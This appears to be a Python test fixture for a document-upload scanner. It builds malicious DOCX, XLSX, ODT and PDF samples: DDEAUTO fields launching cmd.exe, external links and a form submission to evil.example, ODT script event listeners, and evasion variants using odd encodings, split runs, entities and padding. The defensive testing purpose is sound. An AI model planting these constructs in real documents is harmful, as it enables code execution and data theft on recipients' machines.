"""Documents that ask a program, or another machine, when somebody opens them, and where they hide it."""

from tests.imports.word.written import changed
from tests.uploads.hostile import FETCHES, MIXED, PROGRAMS, TOO_MUCH, Maker, packed_objects, with_part
from tests.uploads.written import RELATIONS, docx, odt, pdf, xlsx

LISTENER = b"<a xmlns:script='s'><script:event-listener script:language='ooo:script' script:event-name='dom:load'/></a>"


def with_book(target: str) -> bytes:
    """Return a sheet with formulas that read another file."""
    relation = (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Target="{target}" TargetMode="External" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"/></Relationships>'
    )
    return with_part("xl/externalLinks/_rels/externalLink1.xml.rels", relation.encode(), xlsx())


def with_field(runs: bytes) -> bytes:
    """Return a text with a field of these runs between its marks, and an ordinary one before."""
    begin, end = (b'<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind for kind in (b"begin", b"end"))
    page = begin + b"<w:r><w:instrText>PAGE</w:instrText></w:r>" + end
    return changed(
        docx(), "word/document.xml", b"<w:sectPr", b"<w:p>" + page + begin + runs + end + b"</w:p><w:sectPr"
    )


COMMANDING_DOCUMENTS: dict[str, tuple[Maker, str]] = {
    "sheet with a distant book": (lambda: with_book("https://evil.example/a.xlsx"), FETCHES),
    "sheet with a book of a share": (lambda: with_book("file:///\\\\evil.example\\a\\b.xlsx"), FETCHES),
    "sheet that asks a program": (lambda: with_part("xl/externalLinks/externalLink1.xml", b"<a:externalLink xmlns:a='a'><a:ddeLink ddeService='cmd' ddeTopic='/c calc'/></a:externalLink>", xlsx()), PROGRAMS),
    "text that asks a program": (lambda: with_field(b'<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r>'), PROGRAMS),
    "text that asks a program in a simple field": (lambda: with_field(b'<w:fldSimple w:instr="&#100;de excel a b"/>'), PROGRAMS),
    "PDF with a film that runs": (lambda: pdf(b"4 0 obj<</Type/Annot/Subtype/RichMedia/RichMediaContent 5 0 R>>endobj"), PROGRAMS),
    "PDF that sends what is typed": (lambda: pdf(packed_objects(b"<</S/SubmitForm/F(https://evil.example/)>>")), PROGRAMS),
    "PDF that fetches what is typed": (lambda: pdf(b"4 0 obj<</S/ImportData/F(a.fdf)>>endobj"), PROGRAMS),
    "ODT that listens": (lambda: odt(**{"Object 1__content.xml": LISTENER}), PROGRAMS),
    "ODT that asks a program": (lambda: odt(**{"styles.xml": b"<a xmlns:t='t'><t:dde-connection-decl/></a>"}), PROGRAMS),
    "many fields": (lambda: with_field(b"<w:instrText>a</w:instrText>" * 2_000_000), TOO_MUCH),
    "declaration without end": (
        lambda: odt(
            **{f"a{number}.xml": b"<?xml" + b" \n" * 30_000 for number in range(900)}
            | {"styles.xml": LISTENER}
        ),
        PROGRAMS,
    ),
    "command in many runs": (lambda: with_field(b"".join(b"<w:r><w:instrText>%c</w:instrText></w:r>" % each for each in b"  DdeAuto a")), PROGRAMS),
    "command that was deleted": (lambda: with_field(b"<w:r><w:delInstrText>DDE<!-- -->AUTO<![CDATA[ ]]>a</w:delInstrText></w:r>"), PROGRAMS),
    "command of two bytes": (lambda: with_part("xl/externalLinks/externalLink1.xml", "<?xml version='1.0' encoding='utf-16'?><ddeLink/>".encode("utf-16"), xlsx()), MIXED),
    "command in another alphabet": (lambda: odt(**{"styles.xml": "<?xml version='1.0' encoding='cp037'?><event-listener/>".encode("cp037")}), MIXED),
    "command in an encoding of mails": (lambda: odt(**{"styles.xml": b"<?xml version='1.0' encoding='utf-7'?>"}), MIXED),
    "command of a type": (lambda: odt(**{"styles.xml": b'<!DOCTYPE a [<!ENTITY b "&#60;event-l&#105;stener/>">]><a>&b;</a>'}), PROGRAMS),
    "command between two pieces": (lambda: odt(**{"styles.xml": b"<a>" + b" " * (64 * 1024 - 10) + LISTENER + b"</a>"}), PROGRAMS),
}  # fmt: skip
"""What is added as a document, and a part of what is said."""
